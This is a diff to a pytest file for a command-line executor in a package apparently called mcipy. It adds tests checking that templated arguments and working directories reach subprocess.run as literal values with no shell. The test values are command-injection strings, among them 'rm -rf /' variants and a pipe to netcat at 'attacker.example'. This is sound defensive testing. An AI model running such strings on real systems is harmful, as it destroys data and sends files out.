@@ -3,6 +3,7 @@
 import subprocess
 import sys
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
@@ -10,14 +11,37 @@ from mcipy.executors.cli_executor import CLIExecutor
 from mcipy.models import CLIExecutionConfig, FlagConfig
 
 
+class _RunRecorder:
+    """Stand-in for subprocess.run that records its calls and returns a fixed result."""
+
+    def __init__(self, stdout: str = "", stderr: str = "", returncode: int = 0):
+        self.calls: list[tuple[tuple, dict]] = []
+        self._result = SimpleNamespace(stdout=stdout, stderr=stderr, returncode=returncode)
+
+    def __call__(self, *args, **kwargs):
+        self.calls.append((args, kwargs))
+        return self._result
+
+
+def _ctx(props: dict) -> dict:
+    """Build an execution context for the given props with no environment variables."""
+    return CLIExecutor._build_context(props, {})
+
+
+def _mk_config(**fields) -> CLIExecutionConfig:
+    """Build a CLIExecutionConfig without validation, for tests that exercise the executor only."""
+    return CLIExecutionConfig.model_construct(**{"command": "echo", "args": [], **fields})
+
+
+@pytest.fixture(scope="module")
+def executor():
+    """Fixture for a CLIExecutor instance shared by the module (it holds no per-call state)."""
+    return CLIExecutor()
+
+
 class TestCLIExecutor:
     """Tests for CLIExecutor class."""
 
-    @pytest.fixture
-    def executor(self):
-        """Fixture for CLIExecutor instance."""
-        return CLIExecutor()
-
     @pytest.fixture
     def context(self):
         """Fixture for test context."""
@@ -169,6 +193,7 @@ class TestCLIExecutor:
             # The output should contain the temp directory path
             assert Path(tmpdir).name in stdout or tmpdir in stdout
 
+    @pytest.mark.slow
     def test_run_subprocess_with_timeout(self, executor):
         """Test that subprocess respects timeout."""
         # Use a command that sleeps longer than the timeout
@@ -301,6 +326,7 @@ class TestCLIExecutor:
             or "No such file" in result.result.content[0].text
         )
 
+    @pytest.mark.slow
     def test_execute_with_timeout(self, executor, context):
         """Test executing command with timeout."""
         if sys.platform == "win32":
@@ -415,7 +441,7 @@ class TestCLIExecutor:
 
     def test_apply_flags_with_numeric_value(self, executor):
         """Test that numeric flag values are converted to strings."""
-        context = {"props": {"count": 42}, "env": {}, "input": {}}
+        context = _ctx({"count": 42})
         flags = {
             "--count": FlagConfig(**{"from": "props.count", "type": "value"}),
         }
@@ -498,3 +524,66 @@ class TestCLIExecutor:
         expected_stderr_bytes = len(stderr.encode())
         assert result.result.metadata["stderr_bytes"] == expected_stderr_bytes
         assert result.result.metadata["stderr_bytes"] > 0
+
+    @pytest.mark.parametrize(
+        "malicious_value",
+        [
+            "`whoami`.txt",
+            "$(rm -rf /).txt",
+            "data.txt | nc attacker.example 1234",
+            "data.txt\x00rm -rf /",
+            "safe\nrm -rf /",
+            "*.txt",
+            "$HOME/file",
+            "test\u003bwhoami",
+            "test.txt; rm -rf /",
+        ],
+        ids=[
+            "backtick",
+            "dollar_subst",
+            "pipe",
+            "null_byte",
+            "newline",
+            "glob",
+            "envvar",
+            "unicode",
+            "semicolon",
+        ],
+    )
+    def test_metachar_preserved_as_literal(self, executor, malicious_value):
+        """Test that shell metacharacters in templated args stay one literal argument."""
+        config = _mk_config(command="cat", args=["{{props.file}}"])
+        context = _ctx({"file": malicious_value})
+
+        executor._apply_basic_templating_to_config(config, context)
+        command_list = executor._build_command_args(config, context)
+
+        assert config.args == [malicious_value]
+        assert command_list == ["cat", malicious_value]
+
+    def test_subprocess_uses_list_not_shell(self, executor, monkeypatch):
+        """Test that execute passes an argument list to subprocess.run without a shell."""
+        recorder = _RunRecorder(stdout="ok")
+        monkeypatch.setattr("mcipy.executors.cli_executor.subprocess.run", recorder)
+        config = CLIExecutionConfig(command="cat", args=["{{props.file}}"])
+        context = _ctx({"file": "a.txt; rm -rf /"})
+
+        result = executor.execute(config, context)
+
+        assert not result.result.isError
+        args, kwargs = recorder.calls[-1]
+        assert args[0] == ["cat", "a.txt; rm -rf /"]
+        assert not kwargs.get("shell", False)
+
+    def test_working_directory_injection(self, executor, monkeypatch):
+        """Test that a templated cwd reaches subprocess.run as a single literal path."""
+        recorder = _RunRecorder()
+        monkeypatch.setattr("mcipy.executors.cli_executor.subprocess.run", recorder)
+        config = CLIExecutionConfig(command="ls", cwd="{{props.dir}}")
+        context = _ctx({"dir": "/tmp && rm -rf /"})
+
+        executor.execute(config, context)
+
+        args, kwargs = recorder.calls[-1]
+        assert args[0] == ["ls"]
+        assert kwargs["cwd"] == "/tmp && rm -rf /"